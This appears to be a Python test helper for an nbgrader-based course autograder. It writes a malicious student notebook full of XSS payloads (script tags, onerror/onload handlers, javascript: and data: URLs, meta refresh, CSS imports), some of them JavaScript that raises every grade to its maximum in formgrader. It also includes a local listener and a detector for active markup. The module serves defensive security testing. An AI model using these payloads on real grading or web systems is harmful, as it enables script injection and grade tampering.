"""The attacker of the inert-text tests: a submission whose text and outputs try to run
script where the instructor reads them, and the checks that none does.

attack_notebooks(inbox, student, port) turns a copy of the solution sample into the
attacker `student`: in 03_removing_b (the notebook of the written answer why_no_b, the one
an instructor opens in formgrader) the answer holds the honest text and then MARKDOWN
payloads, extra Markdown cells hold one payload each (one with an SVG attachment), a raw
cell holds HTML, an extra code cell displays every active output type (HTML, JavaScript,
SVG, Markdown, LaTeX, a widget view, a forged PNG, an HTML execute_result) and flags a
review line that starts with "-", and the notebook metadata carries a widget state. Every
payload that runs sets document.title to "XSS:<name>", sends a request to the listener
on 127.0.0.1:`port`, and, in formgrader, tries to give every grade of the page its
maximum through formgrader's own models (what the attack of issue 17 did).

Listener: a tiny HTTP server on 127.0.0.1 that records the paths it is asked for.
active_markup(html): what in a page could run or send something, as readable reasons.
"""

import contextlib
import http.server
import json
import re
import threading
from pathlib import Path

from autograder_support import free_port

from bnlab.course import ASSIGNMENT

MARK = "XSS:"
NOTEBOOK, ANSWER = "03_removing_b", "why_no_b"
# A 1x1 PNG: a raster image the attacker's cell displays too, which must be kept.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HONEST = "The mean subtraction cancels any $b^{[l]}$: $\\beta^{[l]}$ does its job."


def script(name, port):
    """JavaScript that, when it runs, marks the page, calls the listener and gives every
    grade of a formgrader page its maximum."""
    return (
        f"document.title='{MARK}{name}';"
        f"fetch('http://127.0.0.1:{port}/{name}').catch(function(){{}});"
        "var t=setInterval(function(){if(window.formgrader&&formgrader.grades&&"
        "formgrader.grades.loaded){clearInterval(t);formgrader.grades.each(function(g){"
        "g.save({manual_score:g.get('max_score')});});}},100);"
    )


def markdown_payloads(port):
    """{name: Markdown} of payloads that run script, load or send something when the
    Markdown is rendered as HTML (some need a click: the test looks for them instead)."""
    js = lambda name: script(name, port).replace('"', "&quot;")  # noqa: E731
    url = f"http://127.0.0.1:{port}"
    return {
        "md-script": f"<script>{script('md-script', port)}</script>",
        "md-img": f'<img src=x onerror="{js("md-img")}">',
        "md-svg": f'<svg onload="{js("md-svg")}"><circle r="5"/></svg>',
        "md-iframe": f"<iframe srcdoc=\"<script>top.document.title='{MARK}md-iframe'</script>\">"
        "</iframe>",
        "md-object": f'<object data="data:text/html,<script>alert(1)</script>">{MARK}</object>',
        "md-embed": '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "md-js-link": f"[click me](javascript:document.title='{MARK}md-js-link';"
        f"fetch('{url}/md-js-link'))",
        "md-js-autolink": "<javascript:alert('XSS:md-js-autolink')>",
        "md-data-link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "md-data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "md-style": f"<style>@import url({url}/md-style); body{{background:url({url}/bg)}}</style>",
        "md-style-attr": f'<div style="background:url(javascript:alert(1))">{MARK}styled</div>',
        "md-meta": f'<meta http-equiv="refresh" content="0;url={url}/md-meta">',
        "md-form": f'<form action="{url}/md-form"><button formaction="{url}/b">go</button></form>',
        "md-base": f'<base href="{url}/md-base/">',
        "md-details": f'<details open ontoggle="{js("md-details")}"><summary>s</summary></details>',
        "md-onclick": f'<b onclick="{js("md-onclick")}">bold</b>',
        "md-comment": f'<!-- x --!><img src=y onerror="{js("md-comment")}">',
        "md-mermaid": f'```mermaid\n<img src=z onerror="{js("md-mermaid")}">\n```',
        "md-tex-href": f"$\\href{{javascript:{script('md-tex-href', port)}}}{{x}}$",
        "md-tex-text": f'$\\text{{<img src=m onerror="{js("md-tex-text")}">}}$',
    }


def _svg_base64(name):
    import base64

    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'{MARK}{name}\'"/>'
    return base64.b64encode(svg.encode()).decode()


def output_code(port):
    """An extra code cell: it displays every active output type, and has a review line
    (setattr on numpy) that starts with "-", which flags.csv shows."""
    payloads = {
        "text/html": f'<img src=x onerror="{script("out-html", port)}">',
        "application/javascript": script("out-js", port),
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{script('out-svg', port)}\"/>",
        "text/markdown": f"<script>{script('out-md', port)}</script>",
        "text/latex": f"$\\href{{javascript:{script('out-latex', port)}}}{{x}}$",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
    }
    return "\n".join(
        [
            "from IPython.display import display",
            f"display({json.dumps(payloads)}, raw=True)",
            f"display({{'image/png': {PNG!r}, 'text/plain': 'a plot'}}, raw=True)",
            "display({'image/png': 'iVBORw0KGgo=\" onerror=\"alert(1)', 'text/plain': 'p'},"
            " raw=True, metadata={'image/png': {'width': '1 onerror=alert(1)'}})",
            "class Page:",
            "    def _repr_html_(self):",
            f"        return {script('out-exec', port)!r}.join(['<script>', '</script>'])",
            "-len([setattr(np, 'bnlab_flag', 1)])",
            "Page()",
        ]
    )


def attack_notebooks(inbox, student, port, template="solution"):
    """Write the attacker `student` into `inbox` (nbgrader's submitted/ layout), from the
    sample `template` already there. Returns the names of the payloads."""
    import shutil

    import nbformat

    source = Path(inbox) / template / ASSIGNMENT
    folder = Path(inbox) / student / ASSIGNMENT
    shutil.rmtree(folder.parent, ignore_errors=True)
    shutil.copytree(source, folder)
    path = folder / f"{NOTEBOOK}.ipynb"
    nb = nbformat.read(path, as_version=4)
    markdown = markdown_payloads(port)
    at = next(
        i
        for i, c in enumerate(nb.cells)
        if c.metadata.get("nbgrader", {}).get("grade_id") == ANSWER
    )
    nb.cells[at].source = HONEST + "\n\n" + "\n\n".join(markdown.values())
    extra = [nbformat.v4.new_markdown_cell(f"{name}: {text}") for name, text in markdown.items()]
    attached = nbformat.v4.new_markdown_cell("![chart](attachment:chart.svg)")
    attached["attachments"] = {"chart.svg": {"image/svg+xml": _svg_base64("md-attachment")}}
    raw = nbformat.v4.new_raw_cell(f"<script>{script('raw-cell', port)}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    code = nbformat.v4.new_code_cell(output_code(port))
    code.metadata["jupyter"] = {"source_hidden": True}
    nb.cells[at + 1 : at + 1] = [*extra, attached, raw, code]
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}
    }
    nbformat.write(nb, path)
    return [*markdown, "md-attachment", "raw-cell", "out-html", "out-js", "out-svg", "out-exec"]


# ------------------------------------------------------------------ the listener


class _Recorder(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def listener(port=None):
    """An HTTP server on 127.0.0.1:`port` (default a free one) in a thread; yields the
    server, whose `seen` lists the paths asked for."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port or free_port()), _Recorder)
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


# ------------------------------------------------------------------ reading a page

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}
ACTIVE_ELEMENTS = {"iframe", "object", "embed", "base", "form", "frame", "applet", "svg"}


def active_markup(page_html, allowed_scripts=0):
    """Reasons why `page_html` (a whole page) could run or send something a student wrote:
    script elements beyond the page's own `allowed_scripts` (the ones with a src, or
    without the payload mark), payload marks in a script, a style or an attribute,
    on* attributes holding a payload, javascript:/data:text/html URLs, and elements that
    embed or navigate (iframe, object, embed, base, form, svg, meta refresh)."""
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(page_html, "html.parser")
    found = []
    scripts = soup.find_all("script")
    own = [s for s in scripts if s.get("src") or MARK not in s.get_text()]
    if len(own) > allowed_scripts:
        found.append(f"{len(own)} script element(s), expected at most {allowed_scripts}")
    found += [f"script: {s.get_text()[:80]}" for s in scripts if MARK in s.get_text()]
    found += [
        f"style: {s.get_text()[:80]}" for s in soup.find_all("style") if "127.0.0.1" in s.get_text()
    ]
    for element in soup.find_all(True):
        if element.name in ACTIVE_ELEMENTS:
            found.append(f"<{element.name}> element")
        if element.name == "meta" and "refresh" in (element.get("http-equiv") or "").lower():
            found.append("meta refresh")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") and (MARK in value or "alert" in value):
                found.append(f"{element.name} {name}={value[:60]}")
            if name in URL_ATTRIBUTES:
                bare = re.sub(r"[\x00-\x20]", "", value).lower()
                if bare.startswith(("javascript:", "vbscript:", "data:text/html")):
                    found.append(f"{element.name} {name}={value[:60]}")
                if "127.0.0.1" in bare and "/formgrader/" not in bare and "/static/" not in bare:
                    found.append(f"{element.name} {name}={value[:60]}")
            if name == "style" and ("url(" in value or "expression(" in value):
                found.append(f"{element.name} style={value[:60]}")
    return found
